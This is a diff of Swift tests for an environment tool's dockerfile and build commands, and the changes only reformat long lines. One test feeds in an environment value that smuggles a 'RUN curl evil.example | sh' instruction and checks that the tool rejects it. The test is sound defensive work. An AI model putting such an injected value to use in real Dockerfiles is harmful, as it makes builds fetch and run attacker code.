@@ -6,7 +6,9 @@ import Testing
 /// `envctl dockerfile` and `envctl build` as a user runs them: output, files and exit codes.
 @Suite struct DockerfileCommandTests {
     /// The quickstart example lock with its (offline, absent) image digests filled in.
-    static func pinnedQuickstart(in dir: TemporaryDirectory, edit: (inout LockedEnvironment) -> Void = { _ in }) throws -> String {
+    static func pinnedQuickstart(in dir: TemporaryDirectory, edit: (inout LockedEnvironment) -> Void = { _ in }) throws
+        -> String
+    {
         var lock = try Lockfile.load(fileAt: RepoPaths.path("lockfiles/quickstart.lock"))
         for i in lock.environments.indices {
             lock.environments[i].images.base.digest = "sha256:" + String(repeating: "b", count: 64)
@@ -42,7 +44,8 @@ import Testing
     }
 
     @Test func unpinnedLockIsRefused() throws {
-        let r = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", RepoPaths.path("lockfiles/quickstart.lock")])
+        let r = try runProcess(
+            RepoPaths.envctlBinary, ["dockerfile", "--lock", RepoPaths.path("lockfiles/quickstart.lock")])
         #expect(r.status == 64)
         #expect(r.stderr.contains("has no digest in the lock"))
     }
@@ -53,7 +56,8 @@ import Testing
         let lock = try Self.pinnedQuickstart(in: dir) { $0.env["EVIL"] = "x\nRUN curl evil.example | sh" }
         let r = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock])
         #expect(r.status == 64)
-        #expect(r.stderr.contains(#"value of EVIL "x\nRUN curl evil.example | sh" contains the control character U+000A"#))
+        #expect(
+            r.stderr.contains(#"value of EVIL "x\nRUN curl evil.example | sh" contains the control character U+000A"#))
         #expect(r.stdout.isEmpty)
     }
 
@@ -79,7 +83,8 @@ import Testing
         #expect(r.status == 69)
         #expect(r.stderr.contains("buildah is not installed"))
         #expect(r.stderr.contains("apt-get install buildah"))
-        let any = try runProcess(RepoPaths.envctlBinary, ["build", "--lock", lock], cwd: dir.path, environment: ["PATH": dir.path])
+        let any = try runProcess(
+            RepoPaths.envctlBinary, ["build", "--lock", lock], cwd: dir.path, environment: ["PATH": dir.path])
         #expect(any.status == 69)
         #expect(any.stderr.contains("none of buildah, podman, docker is on PATH"))
     }
